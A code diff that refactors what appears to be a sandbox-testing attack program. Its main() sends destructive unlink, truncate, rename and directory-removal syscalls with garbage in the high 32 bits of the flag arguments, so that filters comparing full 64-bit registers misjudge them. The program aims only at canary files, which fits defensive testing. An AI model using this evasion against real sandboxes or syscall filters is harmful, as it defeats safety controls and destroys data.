@@ -2,26 +2,7 @@
 // A filter or a supervisor that compared the full 64-bit register (flags == 0, flags & O_TRUNC as a
 // 64-bit equality) would treat these calls as something else than the kernel runs.
 #define _GNU_SOURCE
-#include <dirent.h>
-#include <errno.h>
-#include <fcntl.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <sys/syscall.h>
-#include <unistd.h>
-
-// The canary's regular files (top level), as names relative to it: the attack does not assume them.
-static int canary_files(const char *canary, char names[][256], int max) {
-    DIR *d = opendir(canary);
-    int n = 0;
-    struct dirent *e;
-    if (!d) { perror(canary); return 0; }
-    while (n < max && (e = readdir(d)))
-        if (e->d_type == DT_REG) snprintf(names[n++], 256, "%s", e->d_name);
-    closedir(d);
-    return n;
-}
+#include "attack.h"
 
 // The canary's first empty subdirectory, if any.
 static int canary_empty_dir(const char *canary, char *out, size_t len) {
@@ -42,11 +23,6 @@ static int canary_empty_dir(const char *canary, char *out, size_t len) {
     return 0;
 }
 
-static void show(const char *what, long r, int err) {
-    printf("%s -> %ld (%s)\n", what, r, r < 0 ? strerror(err) : "success");
-    fflush(stdout);
-}
-
 int main(void) {
     const char *canary = getenv("CANARY");
     if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
@@ -59,17 +35,17 @@ int main(void) {
     long r;
 
     errno = 0; r = syscall(SYS_unlinkat, AT_FDCWD, a, 0x100000000L);
-    show("unlinkat(canary file 1, flags=1<<32)", r, errno);
+    show("unlinkat(canary file 1, flags=1<<32)", r);
     errno = 0; r = syscall(SYS_openat, AT_FDCWD, b, 0xdead00000000L | O_WRONLY | O_TRUNC, 0);
-    show("openat(canary file 2, O_WRONLY|O_TRUNC|0xdead<<32)", r, errno);
+    show("openat(canary file 2, O_WRONLY|O_TRUNC|0xdead<<32)", r);
     if (r >= 0) close((int)r);
     errno = 0; r = syscall(SYS_renameat2, AT_FDCWD, c, AT_FDCWD, d, 0x100000000L);
-    show("renameat2(canary file 3 -> renamed-by-high-bits, flags=1<<32)", r, errno);
+    show("renameat2(canary file 3 -> renamed-by-high-bits, flags=1<<32)", r);
     errno = 0; r = syscall(SYS_truncate, a, 0x100000000L);
-    show("truncate(canary file 1, 1<<32) (if unlink failed)", r, errno);
+    show("truncate(canary file 1, 1<<32) (if unlink failed)", r);
     if (canary_empty_dir(canary, dir, sizeof dir)) {
         errno = 0; r = syscall(SYS_unlinkat, AT_FDCWD, dir, 0x100000000L | AT_REMOVEDIR);
-        show("unlinkat(empty canary dir, flags=1<<32|AT_REMOVEDIR)", r, errno);
+        show("unlinkat(empty canary dir, flags=1<<32|AT_REMOVEDIR)", r);
     }
     return 0;
 }
